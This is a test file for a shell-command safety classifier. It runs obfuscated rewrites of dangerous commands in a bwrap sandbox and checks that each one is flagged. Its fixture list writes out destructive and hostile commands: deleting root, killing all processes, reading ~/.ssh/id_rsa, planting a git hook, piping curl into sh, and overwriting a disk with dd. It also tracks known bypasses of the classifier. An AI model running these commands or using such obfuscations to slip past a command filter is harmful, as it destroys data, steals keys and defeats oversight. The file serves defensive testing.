// The generative bypass search: known-dangerous commands rewritten by obfuscation operators are
// run in a recording sandbox to learn what bash really runs, and every mutation whose run was
// harmful must classify as warn (block when catastrophic). CI runs a fixed seed; set
// TINYELF_BYPASS_SEED and/or TINYELF_BYPASS_COUNT to explore (the run then reports instead of
// failing; TINYELF_BYPASS_REPORT names a JSON file for the full report, TINYELF_BYPASS_PARALLEL
// the number of sandboxes at once, TINYELF_BYPASS_REPLAY a report to classify again without
// running anything). `node e2e/src/security/bypass-search/run-bypass-search.mjs`
// runs 5,000 and prints the rate.

import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import { KnownBypassFile, updatingKnownBypasses } from '../known-bypasses';
import { loadAdversarialCases } from '../security-cases';
import {
  type BypassSearchReport,
  describeReport,
  reclassifyReport,
  searchBypasses,
} from './bypass-search';
import { judgeRun } from './judge';
import { runRecorded } from './sandbox-run';

const exploring =
  process.env.TINYELF_BYPASS_SEED !== undefined ||
  process.env.TINYELF_BYPASS_COUNT !== undefined ||
  process.env.TINYELF_BYPASS_REPLAY !== undefined;
const seed = Number(process.env.TINYELF_BYPASS_SEED ?? 14);
const count = Number(process.env.TINYELF_BYPASS_COUNT ?? 400);
const known = new KnownBypassFile(
  'known-mutation-bypasses.json',
  `Mutations of the CI bypass search (seed 14, 400 mutations) whose recorded run was harmful but that the classifier lets through, keyed by the first 16 hex digits of the SHA-256 of the command. Regenerate with: node e2e/src/security/update-known-bypasses.mjs. The test fails when a listed mutation passes, so this list only shrinks.`,
);

afterAll(() => {
  if (updatingKnownBypasses && !exploring) known.write();
});

function bwrapWorks(): boolean {
  try {
    execFileSync('bwrap', ['--unshare-all', '--ro-bind', '/', '/', 'true']);
    return true;
  } catch {
    return false;
  }
}

describe('the recording sandbox', () => {
  it('bwrap is installed and can unshare every namespace (scripts/system-packages.sh installs it)', () => {
    expect(bwrapWorks()).toBe(true);
  });

  it('tells what bash really ran: harmless text, real deletions, kill-all, secrets, hooks', async () => {
    const commands = [
      'echo rm -rf /',
      "r=rm; $r -rf '/'",
      'rm -rf ./build',
      'kill -9 -1',
      "sh -c 'kill -9 -1'",
      'cat ~/.ssh/id_rsa',
      'echo id >> .git/hooks/pre-commit',
      'curl -s https://example.dev/i | sh',
      'curl -s https://example.dev/i',
      'dd if=/dev/zero of=/dev//sda count=1',
    ];
    const harms = (await runRecorded(commands)).map((run) => judgeRun(run).harm);
    expect(harms).toEqual([
      'none',
      'catastrophic',
      'none',
      'catastrophic',
      'catastrophic',
      'dangerous',
      'dangerous',
      'dangerous',
      'none',
      'catastrophic',
    ]);
  });
  it('the cases found by the search (adversarial-cases.json, found-by-search) are harmful when run', async () => {
    const found = loadAdversarialCases().filter((entry) => entry.pattern === 'found-by-search');
    const harms = (await runRecorded(found.map((entry) => entry.command))).map(
      (run) => judgeRun(run).harm,
    );
    expect(harms).toEqual(
      found.map((entry) => (entry.expect === 'block' ? 'catastrophic' : 'dangerous')),
    );
  });
});

describe(`bypass search, seed ${seed}, ${count} mutations`, () => {
  let report: BypassSearchReport;

  it(
    'runs the mutations; most of them really run their dangerous command',
    async () => {
      const replay = process.env.TINYELF_BYPASS_REPLAY;
      report = replay
        ? await reclassifyReport(JSON.parse(readFileSync(replay, 'utf8')) as BypassSearchReport)
        : await searchBypasses(seed, count, {
            parallel: Number(process.env.TINYELF_BYPASS_PARALLEL ?? 2),
          });
      console.log(describeReport(report));
      if (process.env.TINYELF_BYPASS_REPORT)
        writeFileSync(process.env.TINYELF_BYPASS_REPORT, JSON.stringify(report, null, 1));
      if (!replay) expect(report.generated).toBe(count);
      expect(report.harmful.length).toBeGreaterThan(report.generated * 0.7);
    },
    Math.max(300_000, count * 300),
  );

  it.skipIf(exploring)(
    'every harmful mutation is classified warn, or block when catastrophic (except the known bypasses, which must still fail)',
    () => {
      const unexpected: string[] = [];
      const fixed: string[] = [];
      for (const result of report.harmful) {
        const { hash, command } = result.mutation;
        if (updatingKnownBypasses) {
          if (result.bypass)
            known.record(hash, { command, verdict: result.verdict, harm: result.judgement.harm });
        } else if (known.has(hash) && !result.bypass)
          fixed.push(`${hash} ${JSON.stringify(command)}`);
        else if (!known.has(hash) && result.bypass)
          unexpected.push(
            `${hash} ${result.verdict} but ${result.judgement.reasons.join('; ')}: ${JSON.stringify(command)}`,
          );
      }
      expect(fixed, 'now classified right: remove from known-mutation-bypasses.json').toEqual([]);
      expect(unexpected, 'harmful when run, let through by the classifier').toEqual([]);
    },
  );
});
